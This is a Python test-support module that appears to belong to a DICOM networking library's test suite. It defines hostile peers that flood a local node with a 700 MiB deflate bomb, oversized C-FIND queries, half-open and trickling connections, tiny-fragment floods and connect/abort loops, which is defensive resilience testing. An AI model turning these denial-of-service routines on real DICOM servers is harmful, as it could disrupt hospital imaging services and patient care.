"""Hostile peers, as programs of their own: each does one thing as fast as it can, until it is ended.

``python -m support.attacks NAME PORT`` with the directory of the tests on the path.
"""

from __future__ import annotations

import socket
import struct
import sys
import time
import zlib
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress

from netdicom_tx.dimsemessages import CFindRQ, CGetRQ, Message, NActionRQ
from netdicom_tx.fragments import fragment
from netdicom_tx.uids import MODALITY_WORK_LIST_INFORMATION_FIND_SOP_CLASS as WORKLIST
from netdicom_tx.uids import (
    STORAGE_COMMITMENT_PUSH_MODEL_SOP_INSTANCE as COMMITMENT_INSTANCE,
)
from netdicom_tx.uids import STUDY_ROOT_FIND_SOP_CLASS as FIND
from netdicom_tx.uids import STUDY_ROOT_GET_SOP_CLASS as GET
from netdicom_tx.userdataitems import MaximumLength, RoleSelection

from . import doubles
from .archive.data_sets import CT_IMAGE_STORAGE as CT
from .archive.data_sets import DEFLATED, EXPLICIT, IMPLICIT

STUDY, BOMB = "1.2.3.1", "1.2.3.999"
_SYNTAX = IMPLICIT.transfer_syntax


def pdus(message: Message, context_id: int = 1) -> bytes:
    """A message as a peer sends it that takes what the node announces."""
    return b"".join(fragment(message, context_id=context_id, limit=1 << 16))


def study(*keys: tuple[int, str, bytes]) -> bytes:
    """A query at STUDY level."""
    every = sorted(((0x00080052, "CS", b"STUDY "), *keys))
    return b"".join(IMPLICIT.element(tag, vr, value) for tag, vr, value in every)


def many(form: str, count: int) -> bytes:
    text = "\\".join(form.format(number) for number in range(count)).encode()
    return text + b" " * (len(text) % 2)


def bomb() -> bytes:
    """700 MiB of zeros, deflated."""
    stream = zlib.compressobj(9, wbits=-zlib.MAX_WBITS)
    size = 700 << 20
    packed = bytearray(
        stream.compress(
            EXPLICIT.identity(BOMB)
            + EXPLICIT.element(0x0020000D, "UI", (STUDY + "\0" * (len(STUDY) % 2)).encode())
            + EXPLICIT.element(0x0020000E, "UI", b"1.2.3.2\0")
            + EXPLICIT.element(0x7FE00010, "OB", b"", length=size)
        )
    )
    for _ in range(size >> 20):
        packed += stream.compress(bytes(1 << 20))
    packed += stream.flush()
    return bytes(packed) + b"\0" * (len(packed) % 2)


class Line:
    """A connection of a hostile peer."""

    def __init__(self, port: int) -> None:
        self.socket = socket.create_connection(("127.0.0.1", port), timeout=30)

    def send(self, octets: bytes) -> None:
        self.socket.sendall(octets)

    def receive(self) -> bool:
        """Take what comes; False at the end."""
        return bool(self.socket.recv(1 << 16))

    def associate(self, contexts: dict[str, list[str]], *items: RoleSelection) -> None:
        """Ask for an association, and wait for the answer."""
        self.send(doubles.request(contexts, MaximumLength(0), *items).encode())
        self.socket.recv(1 << 16)


@contextmanager
def connected(port: int) -> Iterator[Line]:
    line = Line(port)
    try:
        yield line
    finally:
        line.socket.close()


def asking(sop_class: str, identifier: bytes) -> Callable[[int], None]:
    """One query after the other, each answered before the next."""
    question = pdus(CFindRQ(affected_sop_class_uid=sop_class, message_id=1, data_set=identifier))

    def attack(port: int) -> None:
        with connected(port) as line:
            line.associate({sop_class: [_SYNTAX]})
            while True:
                line.send(question)
                if not line.receive():
                    return

    return attack


def inflating(port: int) -> None:
    """C-GET of the bomb, for a peer that takes explicit VR only."""
    asked = study((0x0020000D, "UI", STUDY.encode() + b"\0" * (len(STUDY) % 2)))
    question = pdus(CGetRQ(affected_sop_class_uid=GET, message_id=1, data_set=asked))
    with connected(port) as line:
        line.associate(
            {GET: [_SYNTAX], CT: [EXPLICIT.transfer_syntax]}, RoleSelection(CT, False, True)
        )
        line.send(question)
        while line.receive():
            pass


def committing(port: int) -> None:
    """One instance, 7,000 times in a transaction."""
    item = EXPLICIT.element(0x00081150, "UI", CT.encode() + b"\0" * (len(CT) % 2))
    item += EXPLICIT.element(0x00081155, "UI", b"1.2.3.1\0")
    items = EXPLICIT.element(0xFFFEE000, "", item) * 7000
    number = 0
    with connected(port) as line:
        line.associate({doubles.COMMITMENT: [EXPLICIT.transfer_syntax]})
        while True:
            number += 1
            transaction = f"1.2.{time.time_ns()}.{number}".encode()
            data = EXPLICIT.element(0x00081195, "UI", transaction + b"\0" * (len(transaction) % 2))
            data += EXPLICIT.element(0x00081199, "SQ", items)
            line.send(
                pdus(
                    NActionRQ(
                        requested_sop_class_uid=doubles.COMMITMENT,
                        requested_sop_instance_uid=COMMITMENT_INSTANCE,
                        action_type_id=1,
                        message_id=1,
                        data_set=data,
                    )
                )
            )
            if not line.receive():
                return


def small_items(port: int) -> None:
    """A-ASSOCIATE-RQ of a quarter of a MiB in items of four octets."""
    head = doubles.request().encode()[6:74]
    body = head + b"\x99\0\0\0" * ((1 << 16) - 40)
    octets = struct.pack(">BxI", 1, len(body)) + body
    while True:
        with connected(port) as line:
            line.send(octets)
            line.receive()


def half_open(port: int) -> None:
    """Connections that have sent most of a long request, and nothing more."""
    body = doubles.request().encode()[6:] + bytes(200_000)
    octets = struct.pack(">BxI", 1, 250_000) + body
    lines = []
    while True:
        with suppress(OSError):
            lines.append(Line(port))
            lines[-1].send(octets)
        if len(lines) >= 40:
            lines.pop(0).socket.close()


def trickling(port: int) -> None:
    """Six connections that send an octet of a data set now and then."""
    message = pdus(doubles.store_rq(data=bytes(1000)))
    lines = [Line(port) for _ in range(6)]
    for line in lines:
        line.associate({CT: [_SYNTAX]})
        line.send(message[:-900])
    for octet in message[-900:]:
        for line in lines:
            line.send(bytes([octet]))
        time.sleep(1)


def empty_fragments(port: int) -> None:
    """Six MiB of PDVs of one octet."""
    head = next(fragment(doubles.store_rq(data=b"x"), context_id=1, limit=1 << 16))
    assert head[11] & 1, "it is not the command set alone"
    flood = doubles.p_data(1, 0, b"x") * ((6 << 20) // 13)
    while True:
        with connected(port) as line:
            line.associate({CT: [_SYNTAX]})
            line.send(bytes(head) + flood)


def connecting(port: int) -> None:
    """A connection after the other, as fast as they come."""
    while True:
        with connected(port):
            pass


def associating(port: int) -> None:
    """An association after the other, aborted when it is there."""
    while True:
        with connected(port) as line:
            line.associate({doubles.VERIFICATION: [_SYNTAX]})
            line.send(struct.pack(">BxIxxBB", 7, 4, 0, 0))


ATTACKS: dict[str, Callable[[int], None]] = {
    "C1 a birth date of hyphens": asking(
        WORKLIST, IMPLICIT.element(0x00100030, "DA", b"1" + b"-" * 120_001)
    ),
    "C1 combining marks": asking(
        WORKLIST,
        IMPLICIT.element(0x00080005, "CS", b"ISO_IR 192")
        + IMPLICIT.element(0x00100010, "PN", "\u0315\u0300".encode() * 30_000),
    ),
    "C2 a deflate bomb": inflating,
    "C3 one instance 7,000 times": committing,
    "H1 small items": small_items,
    "H2 half-open connections": half_open,
    "H3 an octet now and then": trickling,
    "H4 fragments of one octet": empty_fragments,
    "H5 modalities": asking(FIND, study((0x00080061, "CS", many("M{}", 5_000)))),
    "H5 other patient IDs": asking(FIND, study((0x00101000, "LO", many("P{}", 3_000)))),
    "H5 names of stars": asking(FIND, study((0x00100010, "PN", many("a{}" + "^*" * 30, 60)))),
    "33 connections": connecting,
    "33 associations": associating,
}

DEFLATED_BOMB = EXPLICIT._replace(transfer_syntax=DEFLATED)


def main() -> None:
    """Attack again and again, whatever the node does about it."""
    attack, port = ATTACKS[sys.argv[1]], int(sys.argv[2])
    print("ready", flush=True)
    while True:
        with suppress(OSError):
            attack(port)
        time.sleep(0.01)


if __name__ == "__main__":
    main()
